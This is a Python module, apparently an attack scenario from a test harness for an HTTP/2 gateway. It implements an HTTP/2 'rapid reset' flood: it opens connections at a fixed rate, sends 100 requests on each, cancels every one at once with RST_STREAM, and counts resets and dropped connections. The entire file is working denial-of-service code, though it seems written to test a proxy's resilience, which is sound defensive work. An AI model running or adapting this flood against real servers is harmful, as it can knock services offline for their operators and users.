"""A stranger asks for paths of the upstream and resets each request at once, on one connection after the other: a proxy that begins
what nobody waits for any more has its upstream's connections full of it. The gateway needs an upstream (proxy.upstream)."""
import struct
import time

from raw_h2 import ACK, CANCEL, PING, RST_STREAM, Closed, Connection, request

POINT = 9
STREAMS = 100  # of each connection: fewer than end it for its resets
CONNECTIONS_PER_S = 200
SOURCE = "127.0.0.2"  # has a share of the upstream's connections of its own


def reset_all(target, counts):
    """One connection, until all it sent was read."""
    with Connection(target.h2c or target.tls, tls=target.h2c is None, timeout_s=5, source=SOURCE) as connection:
        counts["connections"] += 1
        for _ in range(STREAMS):
            stream = connection.headers(request("/echo"))
            connection.frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
        counts["resets"] += STREAMS
        connection.frame(PING, 0, 0, b"all read")
        while not connection.wait(PING).flags & ACK:
            pass


def attack(target, stop):
    counts = {"connections": 0, "resets": 0, "connections_lost": 0}
    began, turns = time.monotonic(), 0
    while not stop.is_set():
        if turns >= CONNECTIONS_PER_S * target.share * (time.monotonic() - began):
            stop.wait(0.01)
            continue
        turns += 1
        try:
            reset_all(target, counts)
        except (AssertionError, Closed, OSError):  # shut, or told to go
            counts["connections_lost"] += 1
    return counts
